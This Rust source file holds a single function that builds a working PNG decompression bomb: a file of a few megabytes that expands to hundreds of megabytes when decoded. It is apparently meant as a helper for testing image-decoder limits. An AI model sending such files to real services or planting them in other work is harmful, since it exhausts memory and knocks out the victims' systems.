//! A real PNG bomb, built without allocating what it decodes to.

/// A real PNG bomb: 16-bit grey, `side x side`, every pixel 0, as a zlib stream of
/// fixed-Huffman blocks (one literal 0, then matches of 258 at distance 1): about 13
/// bits per 258 decoded bytes, so 16000 x 16000 (512 MB decoded) is 3.2 MB.
pub fn png_bomb(side: u32) -> Vec<u8> {
    fn crc32(bytes: &[u8]) -> u32 {
        let mut c = 0xFFFF_FFFFu32;
        for &b in bytes {
            c ^= b as u32;
            for _ in 0..8 {
                c = if c & 1 != 0 {
                    0xEDB8_8320 ^ (c >> 1)
                } else {
                    c >> 1
                };
            }
        }
        !c
    }
    struct Bits {
        out: Vec<u8>,
        acc: u64,
        n: u32,
    }
    impl Bits {
        // LSB-first values (block header, extra bits).
        fn put(&mut self, v: u64, len: u32) {
            self.acc |= v << self.n;
            self.n += len;
            while self.n >= 8 {
                self.out.push(self.acc as u8);
                self.acc >>= 8;
                self.n -= 8;
            }
        }
        // Huffman codes go MSB-first.
        fn code(&mut self, code: u32, len: u32) {
            let mut r = 0u64;
            for i in 0..len {
                r |= (((code >> i) & 1) as u64) << (len - 1 - i);
            }
            self.put(r, len);
        }
    }
    let total = side as u64 * (1 + 2 * side as u64); // a filter byte per row
    let mut b = Bits {
        out: vec![0x78, 0x01],
        acc: 0,
        n: 0,
    };
    b.put(1, 1); // BFINAL
    b.put(1, 2); // fixed Huffman
    b.code(0x30, 8); // literal 0
    let mut left = total - 1;
    while left >= 258 {
        b.code(0b1100_0101, 8); // length 258 (code 285)
        b.code(0, 5); // distance 1
        left -= 258;
    }
    for _ in 0..left {
        b.code(0x30, 8);
    }
    b.code(0, 7); // end of block (256)
    if b.n > 0 {
        b.out.push(b.acc as u8);
    }
    let mut z = b.out;
    let adler = ((total % 65521) << 16) | 1;
    z.extend((adler as u32).to_be_bytes());
    let chunk = |png: &mut Vec<u8>, kind: &[u8], data: &[u8]| {
        png.extend((data.len() as u32).to_be_bytes());
        let mut c = kind.to_vec();
        c.extend(data);
        png.extend(&c);
        png.extend(crc32(&c).to_be_bytes());
    };
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut ihdr = side.to_be_bytes().to_vec();
    ihdr.extend(side.to_be_bytes());
    ihdr.extend([16, 0, 0, 0, 0]); // 16-bit grey
    chunk(&mut png, b"IHDR", &ihdr);
    chunk(&mut png, b"IDAT", &z);
    chunk(&mut png, b"IEND", &[]);
    png
}
